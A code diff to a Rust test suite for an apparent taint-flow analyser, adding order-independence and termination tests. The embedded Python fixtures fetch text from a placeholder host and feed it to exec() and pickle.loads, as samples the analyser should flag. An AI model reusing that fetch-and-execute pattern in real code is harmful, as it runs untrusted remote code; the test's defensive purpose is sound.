@@ -19,6 +19,12 @@ fn kind(path: &str) -> Kind {
 
 /// Flow over files given as (path, text), every block of every file read.
 fn flow(files: &[(&str, &str)]) -> (Sources, Flow) {
+    let (sources, flow) = asked(files, 0);
+    (sources, flow)
+}
+
+/// As [`flow`], after asking for every fact in an order that `seed` decides.
+fn asked(files: &[(&str, &str)], seed: u64) -> (Sources, Flow) {
     let mut files: Vec<SourceFile> = files.iter().map(|(p, t)| SourceFile::new(*p, kind(p), t.as_bytes().to_vec())).collect();
     files.sort_by(|a, b| a.path.cmp(&b.path));
     let sources = Sources { roots: vec![".".into()], files, ..Sources::default() };
@@ -38,8 +44,21 @@ fn flow(files: &[(&str, &str)]) -> (Sources, Flow) {
     let facts = Facts { files: sources.files.iter().map(|f| unwrap(read(f), &catalog)).collect() };
     let index = Index::new(&sources, &facts, &catalog);
     let (graph, _) = link::link(&index, &facts, &catalog);
-    let flow = solve(&index, &facts, &graph, &catalog);
-    (sources, flow)
+    if seed == 0 {
+        let flow = solve(&index, &facts, &graph, &catalog);
+        return (sources, flow);
+    }
+    let versions = Versions::new(&index, &facts);
+    let mut solver = Solver::new(World { index: &index, facts: &facts, graph: &graph, catalog: &catalog });
+    let mut nodes: Vec<(u64, Node)> =
+        facts.nodes().map(|(n, _)| ((seed ^ (u64::from(n.fact.0) << 8 | u64::from(n.file.0))).wrapping_mul(0x9e37_79b9_7f4a_7c15).rotate_left(29), n)).collect();
+    nodes.sort_unstable();
+    for (_, node) in nodes {
+        solver.fact(node);
+    }
+    let sinks = solver.sinks();
+    let (hits, notices) = lift::lift(&mut solver, &versions, &sinks);
+    (sources, Flow { hits, wanted: solver.wanted, versions, notices })
 }
 
 fn name<T: serde::Serialize>(value: T) -> String {
@@ -324,4 +343,32 @@ fn origins_cross_files_and_languages() {
         }
     }
     assert!(wrong.is_empty(), "{}", wrong.join("\n"));
+}
+
+#[test]
+fn the_order_of_questions_changes_nothing() {
+    let together: String = PYTHON.iter().enumerate().map(|(i, (code, _))| format!("def case{i}():\n    {}\n", code.replace('\n', "\n    "))).collect();
+    let loops = "def a(x):\n    while x:\n        x = b(x) + 'y'\n    return x\ndef b(x):\n    return a(x) or requests.get('https://h.example/x').text\nclass C:\n    def __init__(self):\n        self.p = self.q\n    def m(self, p):\n        self.q = self.p or p\n        exec(self.q)\nC().m(a('z'))\nexec(b('z'))\n";
+    let whole = format!("{}\n{together}{loops}", IMPORTS.trim_end_matches("; "));
+    for files in [vec![("m.py", whole.as_str())], FILES.iter().flat_map(|c| c.1.iter().copied()).collect()] {
+        let (_, first) = asked(&files, 0);
+        for seed in 1..4 {
+            let (_, other) = asked(&files, seed);
+            assert_eq!(first.hits, other.hits);
+        }
+    }
+}
+
+#[test]
+fn long_chains_and_circles_end() {
+    let mut code = String::from("import pickle, requests\na = requests.get('https://h.example/x').text\n");
+    for _ in 0..600 {
+        code.push_str("a = a + a\nif a:\n    a = f(a, a)\n");
+    }
+    for i in 0..100 {
+        code.push_str(&format!("def f{i}(x):\n    y = f{}(x + x)\n    return f{}(y)\n", (i + 1) % 100, (i + 7) % 100));
+    }
+    code.push_str("pickle.loads(a)\npickle.loads(f0(a))\n");
+    let got = hits(&[("m.py", &code)], LOADS);
+    assert!(got.iter().any(|h| h.contains("pickle-load publisher/moving unknown")), "{got:?}");
 }
